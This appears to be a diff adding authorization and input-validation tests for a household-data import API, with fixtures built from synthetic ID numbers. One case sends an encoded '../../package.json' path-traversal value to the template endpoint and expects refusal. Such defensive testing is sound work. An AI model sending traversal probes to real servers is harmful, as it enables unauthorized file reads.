+    ['a lower-case kind', '/imports/templates/households.xlsx'],
+    ['a kind with a path in it', `/imports/templates/${encodeURIComponent('../../package.json')}`],
+    ['a .csv template (templates are .xlsx)', '/imports/templates/HOUSEHOLDS.csv'],
+  ] as const) {
+    add({ category: 'intake: template', name: `GET a template of ${label}`, request: get('pingshanAdmin', path), code: 'NOT_FOUND', status: 404 });
+  }
+  for (const [as, code, status] of [
+    ['none', 'UNAUTHENTICATED', 401],
+    ['cadre', 'FORBIDDEN', 403],
+    ['analyst', 'FORBIDDEN', 403],
+  ] as const) {
+    add({ category: 'intake: template', name: `GET the households template as ${as}`, request: get(as, '/imports/templates/HOUSEHOLDS.xlsx'), code, status });
+  }
+  for (const [label, id] of BAD_PATH_IDS) {
+    add({
+      category: 'intake: report',
+      name: `GET /imports/<${label}>/report.xlsx`,
+      request: get('pingshanAdmin', `/imports/${id}/report.xlsx`),
+      code: 'BAD_USER_INPUT',
+      status: 400,
+      field: 'id',
+    });
+  }
+  add({
+    category: 'intake: report',
+    name: "GET the report of the city administrator's import as the district administrator",
+    request: get('pingshanAdmin', (intake) => `/imports/${intake.cityImportId}/report.xlsx`),
+    code: 'FORBIDDEN',
+    status: 403,
+  });
+  add({
+    category: 'intake: report',
+    name: "GET the CSV report of the city administrator's import as the district administrator",
+    request: get('pingshanAdmin', (intake) => `/imports/${intake.cityImportId}/report.csv`),
+    code: 'FORBIDDEN',
+    status: 403,
+  });
+  add({
+    category: 'intake: report',
+    name: 'GET the report of an import that does not exist (answered as one out of reach)',
+    request: get('pingshanAdmin', '/imports/987654321/report.xlsx'),
+    code: 'FORBIDDEN',
+    status: 403,
+  });
+  for (const [as, code, status] of [
+    ['none', 'UNAUTHENTICATED', 401],
+    ['cadre', 'FORBIDDEN', 403],
+    ['analyst', 'FORBIDDEN', 403],
+  ] as const) {
+    add({
+      category: 'intake: report',
+      name: `GET a report as ${as}`,
+      request: get(as, (intake) => `/imports/${intake.ownImportId}/report.xlsx`),
+      code,
+      status,
+    });
+  }
+
+  // GraphQL: ids, scope, roles, states, row numbers, pages.
+  const gql =
+    (as: IntakeIdentity, query: string, variables: (intake: IntakeFixtures) => Record<string, unknown> = () => ({})): IntakeCase['request'] =>
+    (intake) => ({ as, query, variables: variables(intake) });
+  const WITH_IMPORT_ID: { name: string; field: string; request: (id: string) => IntakeCase['request'] }[] = [
+    { name: 'dataImport(id)', field: 'id', request: (id) => gql('pingshanAdmin', DATA_IMPORT, () => ({ id })) },
+    { name: 'commitImport(input.importId)', field: 'input.importId', request: (id) => gql('pingshanAdmin', COMMIT, () => ({ input: { importId: id } })) },
+    { name: 'cancelImport(input.importId)', field: 'input.importId', request: (id) => gql('pingshanAdmin', CANCEL, () => ({ input: { importId: id } })) },
+    {
+      name: 'acceptImportWarnings(input.importId)',
+      field: 'input.importId',
+      request: (id) => gql('pingshanAdmin', ACCEPT, () => ({ input: { importId: id, all: true } })),
+    },
+  ];
+  for (const operation of WITH_IMPORT_ID) {
+    for (const [label, id] of BAD_IDS) {
+      add({
+        category: 'intake: invalid id',
+        name: `${operation.name} with a ${label} id`,
+        request: operation.request(id),
+        code: 'BAD_USER_INPUT',
+        field: operation.field,
+      });
+    }
+    add({
+      category: 'intake: missing object',
+      name: `${operation.name} with an id that does not exist`,
+      request: operation.request('987654321'),
+      code: 'FORBIDDEN',
+    });
+  }
+  const cityImport = (query: string, input: (intake: IntakeFixtures) => Record<string, unknown>) =>
+    gql('pingshanAdmin', query, (intake) => ({ input: input(intake) }));
+  add({
+    category: 'intake: scope',
+    name: "dataImport of the city administrator's import as the district administrator",
+    request: gql('pingshanAdmin', DATA_IMPORT, (intake) => ({ id: intake.cityImportId })),
+    code: 'FORBIDDEN',
+  });
+  add({
+    category: 'intake: scope',
+    name: "commitImport of the city administrator's import as the district administrator",
+    request: cityImport(COMMIT, (intake) => ({ importId: intake.cityImportId })),
+    code: 'FORBIDDEN',
+  });
+  add({
+    category: 'intake: scope',
+    name: "cancelImport of the city administrator's import as the district administrator",
+    request: cityImport(CANCEL, (intake) => ({ importId: intake.cityImportId })),
+    code: 'FORBIDDEN',
+  });
+  add({
+    category: 'intake: scope',
+    name: "acceptImportWarnings on the city administrator's import as the district administrator",
+    request: cityImport(ACCEPT, (intake) => ({ importId: intake.cityImportId, all: true })),
+    code: 'FORBIDDEN',
+  });
+  for (const [as, code] of [
+    ['none', 'UNAUTHENTICATED'],
+    ['cadre', 'FORBIDDEN'],
+    ['analyst', 'FORBIDDEN'],
+  ] as const) {
+    add({ category: 'intake: who', name: `dataImport as ${as}`, request: gql(as, DATA_IMPORT, (intake) => ({ id: intake.ownImportId })), code });
+    add({ category: 'intake: who', name: `dataImports as ${as}`, request: gql(as, '{ dataImports(first: 5) { totalCount } }'), code });
+    add({ category: 'intake: who', name: `importTemplates as ${as}`, request: gql(as, '{ importTemplates { kind } }'), code });
+    add({ category: 'intake: who', name: `commitImport as ${as}`, request: gql(as, COMMIT, (intake) => ({ input: { importId: intake.ownImportId } })), code });
+    add({ category: 'intake: who', name: `cancelImport as ${as}`, request: gql(as, CANCEL, (intake) => ({ input: { importId: intake.ownImportId } })), code });
+    add({
+      category: 'intake: who',
+      name: `acceptImportWarnings as ${as}`,
+      request: gql(as, ACCEPT, (intake) => ({ input: { importId: intake.ownImportId, all: true } })),
+      code,
+    });
+  }
+  // A cancelled import is done with: no commit, no acceptance, no second cancel.
+  for (const [name, query, extra] of [
+    ['commitImport', COMMIT, {}],
+    ['cancelImport', CANCEL, {}],
+    ['acceptImportWarnings', ACCEPT, { all: true }],
+  ] as const) {
+    add({
+      category: 'intake: state',
+      name: `${name} of a cancelled import`,
+      request: gql('pingshanAdmin', query, (intake) => ({ input: { importId: intake.cancelledImportId, ...extra } })),
+      code: 'CONFLICT',
+      message: /CANCELLED|取消/,
+    });
+  }
+  // Row numbers: rows of this import with a warning, never an error, never a row that is not there.
+  const acceptRows = (rowNumbers: (intake: IntakeFixtures) => unknown) =>
+    gql('pingshanAdmin', ACCEPT, (intake) => ({ input: { importId: intake.ownImportId, rowNumbers: rowNumbers(intake) } }));
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings with no rows and not all',
+    request: acceptRows(() => []),
+    code: 'BAD_USER_INPUT',
+    field: 'input.rowNumbers',
+  });
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings with neither rowNumbers nor all',
+    request: gql('pingshanAdmin', ACCEPT, (intake) => ({ input: { importId: intake.ownImportId } })),
+    code: 'BAD_USER_INPUT',
+    field: 'input.rowNumbers',
+  });
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings with all: false and no rows',
+    request: gql('pingshanAdmin', ACCEPT, (intake) => ({ input: { importId: intake.ownImportId, all: false } })),
+    code: 'BAD_USER_INPUT',
+    field: 'input.rowNumbers',
+  });
+  for (const [label, row] of [
+    ['row 0', 0],
+    ['row -1', -1],
+    ['the header row (1)', 1],
+    ['a row past the end of the file', 999_999],
+  ] as const) {
+    add({
+      category: 'intake: row numbers',
+      name: `acceptImportWarnings of ${label}`,
+      request: acceptRows(() => [row]),
+      code: 'BAD_USER_INPUT',
+      field: 'input.rowNumbers.0',
+    });
+  }
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings of a row with an error (errors cannot be accepted)',
+    request: acceptRows((intake) => [intake.ownErrorRow]),
+    code: 'BAD_USER_INPUT',
+    field: 'input.rowNumbers.0',
+  });
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings of a warning row and then a row with an error: nothing accepted',
+    request: acceptRows((intake) => [intake.ownWarningRow, intake.ownErrorRow]),
+    code: 'BAD_USER_INPUT',
+    field: 'input.rowNumbers.1',
+  });
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings of 100,001 rows',
+    request: acceptRows(() => Array.from({ length: 100_001 }, (_value, index) => index + 2)),
+    code: 'BAD_USER_INPUT',
+    field: 'input.rowNumbers',
+  });
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings of row 2^31 (not an Int)',
+    request: acceptRows(() => [2 ** 31]),
+    code: 'BAD_USER_INPUT',
+    status: 400,
+    field: 'input.rowNumbers.0',
+  });
+  add({
+    category: 'intake: row numbers',
+    name: 'acceptImportWarnings of row "2" (a string)',
+    request: acceptRows(() => ['2']),
+    code: 'BAD_USER_INPUT',
+    status: 400,
+    field: 'input.rowNumbers.0',
+  });
+  // Pages and filters.
+  for (const first of [0, -5, 101]) {
+    add({
+      category: 'intake: page size',
+      name: `dataImports first ${first}`,
+      request: gql('pingshanAdmin', 'query ($first: Int) { dataImports(first: $first) { totalCount } }', () => ({ first })),
+      code: 'BAD_USER_INPUT',
+      field: 'first',
+    });
+    add({
+      category: 'intake: page size',
+      name: `DataImport.problems first ${first}`,
+      request: gql('pingshanAdmin', 'query ($id: ID!, $first: Int) { dataImport(id: $id) { problems(first: $first) { totalCount } } }', (intake) => ({
+        id: intake.ownImportId,
+        first,
+      })),
+      code: 'BAD_USER_INPUT',
+      field: 'first',
+    });
+  }
+  for (const [label, cursor] of BAD_CURSORS) {
+    add({
+      category: 'intake: cursor',
+      name: `dataImports after ${label}`,
+      request: gql('pingshanAdmin', 'query ($after: String) { dataImports(first: 2, after: $after) { totalCount } }', () => ({ after: cursor })),
+      code: 'BAD_USER_INPUT',
+      field: 'after',
+    });
+    add({
+      category: 'intake: cursor',
+      name: `DataImport.problems after ${label}`,
+      request: gql(
+        'pingshanAdmin',
+        'query ($id: ID!, $after: String) { dataImport(id: $id) { problems(first: 2, after: $after) { totalCount } } }',
+        (intake) => ({
+          id: intake.ownImportId,
+          after: cursor,
+        }),
+      ),
+      code: 'BAD_USER_INPUT',
+      field: 'after',
+    });
+  }
+  add({
+    category: 'intake: enum',
+    name: 'DataImport.problems severity FATAL in the document',
+    request: gql('pingshanAdmin', 'query ($id: ID!) { dataImport(id: $id) { problems(severity: FATAL) { totalCount } } }', (intake) => ({
+      id: intake.ownImportId,
+    })),
+    code: 'GRAPHQL_VALIDATION_FAILED',
+  });
+  add({
+    category: 'intake: enum',
+    name: 'DataImport.problems severity "error" (lower case) in variables',
+    request: gql(
+      'pingshanAdmin',
+      'query ($id: ID!, $s: ImportProblemSeverity) { dataImport(id: $id) { problems(severity: $s) { totalCount } } }',
+      (intake) => ({
+        id: intake.ownImportId,
+        s: 'error',
+      }),
+    ),
+    code: 'BAD_USER_INPUT',
+    status: 400,
+    field: 'severity',
+  });
+  return cases;
+}
+
+// --- the fixtures, made through the API -------------------------------------------------------------
+
+export interface IntakeClient extends IntakeProbe {
+  /** POST /imports as one of the corpus's identities. */
+  upload(as: IntakeIdentity, parts: MultipartPart[]): Promise<{ status: number; json: unknown; text: string }>;
+}
+
+let idSequence = 0;
+/** A valid ID number of someone born in 平山区 (210502) on the given day, not used before in this run. */
+export function freshIdNumber(birth = '19650315'): string {
+  idSequence += 1;
+  const first17 = `210502${birth}${String((process.pid + idSequence * 7) % 1000).padStart(3, '0')}`;
+  return `${first17}${idNumberCheckCharacter(first17)}`;
+}
+
+interface Person {
+  code: string;
+  headName: string;
+  address: string;
+  village: string;
+  idNumber: string;
+}
+
+/** A row of the households template for a one-person household, by the template's own headers. */
+export function householdRow(columns: TemplateColumn[], person: Person): string[] {
+  const birth = `${person.idNumber.slice(6, 10)}-${person.idNumber.slice(10, 12)}-${person.idNumber.slice(12, 14)}`;
+  const byHeader: Record<string, string> = {
+    户编号: person.code,
+    户主姓名: person.headName,
+    户主身份证号: person.idNumber,
+    地址: person.address,
+    '所在村(社区)': person.village,
+    联系电话: '13904141234',
+    帮扶类别: '困难家庭',
+    困难原因: '因病',
+    姓名: person.headName,
+    与户主关系: '户主',
+    性别: Number(person.idNumber[16]) % 2 === 1 ? '男' : '女',
+    身份证号: person.idNumber,
+    出生日期: birth,
+    重点关注原因: '',
+    是否信访人: '否',
+  };
+  return columns.map((column) => byHeader[column.header] ?? column.example);
+}
+
+async function villageUnder(probe: IntakeProbe, districtId: string): Promise<string> {
+  const children = async (id: string) => {
+    const answer = await probe.graphql<{ regions: { id: string; code: string; level: string }[] }>(
+      'admin',
+      'query ($id: ID) { regions(parentId: $id) { id code level } }',
+      { id },
+    );
+    return answer.data!.regions;
+  };
+  for (const township of await children(districtId)) {
+    const village = (await children(township.id)).find((region) => region.level === 'VILLAGE' || region.level === 'COMMUNITY');
+    if (village) return village.code;
+  }
+  throw new Error(`no village under region ${districtId}`);
+}
+
+async function uploadChecked(client: IntakeClient, as: IntakeIdentity, filename: string, data: Buffer): Promise<string> {
+  const answer = await client.upload(as, [...fields(), fileOf(filename, data)]);
+  if (answer.status !== 201) throw new Error(`set-up upload refused (${answer.status}): ${answer.text.slice(0, 400)}`);
+  const id = uploadedId(answer);
+  const view = await settledImport(client, as, id);
+  if (view.state !== 'CHECKED') throw new Error(`set-up import ${id} ended ${view.state}: ${view.failure}`);
+  return id;
+}
+
+/**
+ * Makes the imports the intake cases aim at: the district administrator's checked import with a
+ * warning row and an error row, one of its imports cancelled, and the city administrator's import of
+ * a 溪湖区 household (out of the district administrator's reach).
+ */
+export async function discoverIntakeFixtures(client: IntakeClient, ids: { pingshanRegionId: string; xihuRegionId: string }): Promise<IntakeFixtures> {
+  const templates = await client.graphql<{ importTemplates: { kind: string; columns: TemplateColumn[] }[] }>(
+    'admin',
+    '{ importTemplates { kind columns { header required example } } }',
+  );
+  if (!templates.data) throw new Error(`importTemplates failed: ${JSON.stringify(templates.errors)}`);
+  const households = templates.data.importTemplates.find((template) => template.kind === 'HOUSEHOLDS')!.columns;
+  const header = households.map((column) => column.header);
+  const pingshanVillage = await villageUnder(client, ids.pingshanRegionId);
+  const xihuVillage = await villageUnder(client, ids.xihuRegionId);
+  const tag = (process.pid % 10_000).toString();
+  const person = (code: string, headName: string, village: string, address = `语料路${code}号`): Person => ({
+    code: `AS-${tag}-${code}`,
+    headName,
+    address,
+    village,
+    idNumber: freshIdNumber(),
+  });
+  const good = householdRow(households, person('1', '语料甲', pingshanVillage));
+  const goodCsv = csvFile(header, [good]);
+  // Row 2 and row 3: the same head name at the same address, two ID numbers (a likely duplicate: a warning).
+  // Row 4: an ID number whose check digit is wrong (an error).
+  const twin = person('3', '语料乙', pingshanVillage, '语料路2号');
+  const wrongDigit = person('4', '语料丙', pingshanVillage);
+  const last = wrongDigit.idNumber.slice(-1);
+  wrongDigit.idNumber = `${wrongDigit.idNumber.slice(0, 17)}${last === '0' ? '1' : '0'}`;
+  const ownCsv = csvFile(header, [
+    householdRow(households, person('2', '语料乙', pingshanVillage, '语料路2号')),
+    householdRow(households, twin),
+    householdRow(households, wrongDigit),
+  ]);
+  const ownImportId = await uploadChecked(client, 'pingshanAdmin', '语料排查表.csv', ownCsv);
+  const cancelledImportId = await uploadChecked(
+    client,
+    'pingshanAdmin',
+    '语料取消.csv',
+    csvFile(header, [householdRow(households, person('5', '语料丁', pingshanVillage))]),
+  );
+  const cancelled = await client.graphql('pingshanAdmin', 'mutation ($input: CancelImportInput!) { cancelImport(input: $input) { id state } }', {
+    input: { importId: cancelledImportId },
+  });
+  if (cancelled.errors?.length) throw new Error(`set-up cancel failed: ${JSON.stringify(cancelled.errors)}`);
+  const cityImportId = await uploadChecked(client, 'admin', '市级排查表.csv', csvFile(header, [householdRow(households, person('6', '语料戊', xihuVillage))]));
+  const problems = await client.graphql<{ dataImport: { problems: { nodes: { rowNumber: number; severity: string }[] } } }>('pingshanAdmin', IMPORT_PROBLEMS, {
+    id: ownImportId,
+  });
+  const nodes = problems.data?.dataImport.problems.nodes ?? [];
+  if (!nodes.some((node) => node.rowNumber === 3 && node.severity === 'WARNING') || !nodes.some((node) => node.rowNumber === 4 && node.severity === 'ERROR')) {
+    throw new Error(`the set-up import's problems are not as planned: ${JSON.stringify(nodes)}`);
+  }
+  return {
+    households,
+    goodCsv,
+    cityImportId,
+    ownImportId,
+    ownErrorRow: 4,
+    ownWarningRow: 3,
+    cancelledImportId,
+    files: await buildIntakeFiles(households, good),
+  };
+}
